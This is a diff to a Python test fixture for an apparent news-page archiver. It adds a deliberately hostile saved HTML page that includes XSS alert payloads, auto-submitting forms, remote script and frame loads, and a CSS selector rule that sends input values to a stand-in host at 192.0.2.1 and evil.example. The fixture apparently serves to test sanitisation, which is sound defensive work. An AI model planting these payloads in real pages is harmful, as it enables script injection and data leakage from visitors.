@@ -6,6 +6,7 @@ from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
 from archive.clock import stamp
+from archive.pages import RawPage, keep, open_pages
 from archive.schema import SORT_SLOTS, open_archive
 
 NOW = datetime(2026, 11, 21, 4, 0, tzinfo=UTC)  # Saturday 21/11/2026, 11:00 in Hà Nội
@@ -22,6 +23,35 @@ EDITION = """<!DOCTYPE html><html lang="vi"><head><meta charset="utf-8"><title>�
 <style>body{font-family:sans-serif}</style></head><body><h1 style="color:#23604a">Điểm tin sáng số 7</h1>
 <p>I. Công nghiệp</p><p><b>Dây chuyền thứ ba</b> — <a href="https://trungdu.example/1">Báo Trung Du</a></p>
 <script>document.title="ran"</script><img src="https://tracker.example/p.png" alt=""></body></html>"""
+
+
+# What a hostile or merely modern page does: run, move on, send, fetch, frame, connect ahead.
+RAW_PAGE = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>Báo Trung Du</title>
+<meta http-equiv="refresh" content="0; url=http://192.0.2.1/refresh"><base href="http://192.0.2.1/base/">
+<link rel="preconnect" href="http://192.0.2.1/"><link rel="dns-prefetch" href="//evil.example">
+<link rel="stylesheet" href="http://192.0.2.1/style.css"><LINK rel="prefetch" href="http://192.0.2.1/next">
+<style>@import url(http://192.0.2.1/import.css); body{background:url(http://192.0.2.1/css)}
+@font-face{font-family:f;src:url(http://192.0.2.1/font)} p{font-family:f;color:#123456}
+input[value^=a]{background:url(http://192.0.2.1/exfiltrate)}</style>
+<script>window.top.ran = true; alert(1)</script><script src="http://192.0.2.1/x.js"></script></head>
+<body onload="alert(2)" background="http://192.0.2.1/old"><p>Chữ của trang đã lưu</p>
+<img src="http://192.0.2.1/p.png" srcset="http://192.0.2.1/p2.png 2x" onerror="alert(3)">
+<svg onload="alert(4)"><image href="http://192.0.2.1/svg"/></svg><a href="javascript:alert(5)">bấm</a>
+<form id="f" action="http://192.0.2.1/form"><input name="q" value="a" autofocus onfocus="this.form.submit()">
+<button>gửi</button></form><iframe src="http://192.0.2.1/frame"></iframe>
+<iframe srcdoc="<script>alert(6)</script>"></iframe><object data="http://192.0.2.1/object"></object><embed src="http://192.0.2.1/embed">
+<video poster="http://192.0.2.1/poster" src="http://192.0.2.1/video" autoplay></video>
+<script>document.getElementById("f").submit()</script></body></html>""".encode()
+
+
+def fill_pages(path: Path, now: datetime = NOW) -> None:
+    """Write pages.db with two copies of article 1's page, the first one hostile."""
+    pages = open_pages(path)
+    later = RAW_PAGE.replace("đã lưu".encode(), "đã sửa".encode())
+    for hours, body in ((4, RAW_PAGE), (2, later)):
+        at = now - timedelta(hours=hours)
+        keep(pages, RawPage("https://trungdu.example/1", "trungdu", at, "text/html; charset=utf-8", body))
+    pages.close()
 
 
 def fill(path: Path, now: datetime = NOW) -> None:
